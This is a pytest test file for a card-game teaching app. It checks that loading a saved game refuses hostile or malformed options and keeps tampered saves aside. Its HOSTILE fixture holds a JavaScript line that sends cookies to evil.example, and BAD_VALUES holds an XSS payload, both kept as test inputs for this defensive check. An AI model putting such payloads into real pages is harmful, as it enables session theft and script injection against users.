"""A saved game is data, never code (issue 16, item 4).

``CardTable.from_json`` takes only the table's known options, of their types and within
their bounds: a saved game holding ``_esm`` or ``_css`` (front-end code), another trait,
or a bad value is refused with a clear message, and lesson 12's GameRoom keeps it aside
in the progress store instead of letting the next game overwrite it.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from buraco_learn.app.exercises import GameRoom
from buraco_learn.app.lessonkit import Page
from buraco_learn.app.progress import DamagedGameError, ProgressStore
from buraco_learn.errors import InvalidRecordError
from buraco_learn.ui import CardTable
from buraco_learn.ui.card_table import SAVED_OPTIONS

HOSTILE = {
    "_esm": "export function render(){ fetch('https://evil.example/'+document.cookie) }",
    "_css": "body { background: url(https://evil.example/) }",
    "_model_module": "evil", "layout": {"display": "none"}, "table": {"hand": []}, "error": "forged",
    "hint_source": "os.system", "game": None, "state": None, "seed": 3, "": 1, "hand_order\u0000": [],
}
BAD_VALUES = {
    "pace": ["fast", True, -1, 1e9, float("nan"), None, [1]], "sort": ["evil", 1, None, ["suit"]],
    "highlight": ["yes", 1, None], "allow_highlight": [0, "false"], "comments": ["true"], "four_colour": [None],
    "large": [{}], "hand_order": ["c1", ["<img src=x onerror=alert(1)>"], [1, 2], ["c" + "9" * 50], ["c1"] * 500, {}],
}


def saved_game() -> dict[str, Any]:
    table = CardTable("italian", seed=5, bots="random", pace=0, autoplay=False, hint_source=lambda view, rung: "",
                      review_source=lambda decisions: {"text": ""})
    table.advance()
    table.draw()
    return dict(json.loads(table.to_json()))


def test_a_saved_game_with_its_own_options_resumes_them() -> None:
    data = saved_game()
    assert set(data["options"]) == set(SAVED_OPTIONS)
    del data["options"]["hand_order"]
    data["options"].update(sort="rank", pace=2, large=True, four_colour=True)
    table = CardTable.from_json(json.dumps(data), autoplay=False)
    assert (table.sort, table.pace, table.large, table.four_colour) == ("rank", 2.0, True, True)
    assert isinstance(table.pace, float)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_an_unknown_or_hostile_option_is_refused(name: str) -> None:
    data = saved_game()
    data["options"][name] = HOSTILE[name]
    with pytest.raises(InvalidRecordError, match=r"options hold .*which a table does not have"):
        CardTable.from_json(json.dumps(data))


@pytest.mark.parametrize(("name", "value"), [(name, value) for name, values in BAD_VALUES.items() for value in values])
def test_an_option_of_the_wrong_type_or_out_of_bounds_is_refused(name: str, value: Any) -> None:
    data = saved_game()
    data["options"][name] = value
    with pytest.raises(InvalidRecordError, match=f"option '{name}' is not valid"):
        CardTable.from_json(json.dumps(data))


@pytest.mark.parametrize("text", ["[" * 100_000, "{\"format\": ", "not json", json.dumps({**saved_game(), "options": [1]})])
def test_a_corrupt_saved_table_is_an_invalid_record(text: str) -> None:
    with pytest.raises(InvalidRecordError):
        CardTable.from_json(text)


def room(tmp_path: Path) -> tuple[GameRoom, ProgressStore]:
    store = ProgressStore(tmp_path / "progress.sqlite3")
    return GameRoom(Page("play", store=store), pace=0), store


def test_a_tampered_saved_game_is_told_and_kept_aside_not_overwritten(tmp_path: Path) -> None:
    game_room, store = room(tmp_path)
    tampered = saved_game()
    tampered["options"]["_esm"] = HOSTILE["_esm"]
    store.save_game(game_room.slot, tampered, "play")
    game_room._offer()
    assert not game_room.resume_button.disabled
    assert game_room.resume() is None and game_room.table is None
    assert "could not be resumed" in game_room.status.value and "_esm" in game_room.status.value
    assert "kept aside, not overwritten" in game_room.status.value and game_room.resume_button.disabled
    assert store.load_game(game_room.slot) is None
    [aside] = [game.slot for game in store.games() if game.slot != game_room.slot]
    assert store.load_game(aside) == tampered
    table = game_room.new_game(seed=7)  # the next game takes the slot; the tampered one stays aside
    table.advance()
    game_room._changed()
    assert store.load_game(game_room.slot)["seed"] == 7 and store.load_game(aside) == tampered
    table.close()


def test_a_saved_game_that_is_not_json_is_kept_aside(tmp_path: Path) -> None:
    game_room, store = room(tmp_path)
    store.save_game(game_room.slot, {"x": 1}, "play")
    with sqlite3.connect(store.path) as conn:
        conn.execute("UPDATE games SET data = ? WHERE slot = ?", ("{\"x\": [[[", game_room.slot))
    with pytest.raises(DamagedGameError):
        store.load_game(game_room.slot)
    assert game_room.resume() is None
    assert "kept aside, not overwritten" in game_room.status.value
    assert store.load_game(game_room.slot) is None and len(store.games()) == 1


@pytest.mark.parametrize("saved", [[1, 2], "text", {"rules": "italian", "hands": 3}, {"format": "buraco-learn-table"}])
def test_a_saved_game_of_the_wrong_shape_is_offered_then_refused_in_words(tmp_path: Path, saved: Any) -> None:
    game_room, store = room(tmp_path)
    store.save_game(game_room.slot, saved, "play")
    game_room._offer()
    assert "You have a saved game (? rules, 0 hands finished)" in game_room.status.value
    assert game_room.resume() is None and "could not be resumed" in game_room.status.value
    assert store.load_game(game_room.slot) is None
